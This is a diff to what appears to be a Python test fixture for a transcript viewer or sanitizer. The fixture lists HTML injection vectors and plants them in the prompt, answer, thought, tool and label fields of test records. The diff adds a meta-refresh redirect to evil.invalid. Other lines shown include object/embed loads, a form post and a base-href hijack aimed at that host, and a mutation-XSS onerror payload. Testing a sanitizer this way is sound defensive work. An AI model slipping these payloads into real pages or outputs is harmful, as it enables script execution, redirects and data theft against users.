@@ -49,12 +49,13 @@ VECTORS = [
     "<object data=https://evil.invalid/o></object><embed src=https://evil.invalid/e>",
     "<form action=https://evil.invalid><button id=send>x</button></form>",
     "<base href=https://evil.invalid/>",
+    '<meta http-equiv="refresh" content="0; url=https://evil.invalid/gone">',
     f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}"></style></mglyph></table></mtext></math>',
 ]
 
 
 def hostile_entries() -> list[dict[str, Any]]:
-    """Twenty vectors in prompts, answers, thoughts, tool names, arguments, results, models and labels: 60 fields."""
+    """Twenty-one vectors in prompts, answers, thoughts, tool names, arguments, results, models and labels: more than 60 fields."""
     entries: list[dict[str, Any]] = []
     for number, vector in enumerate(VECTORS):
         call = {
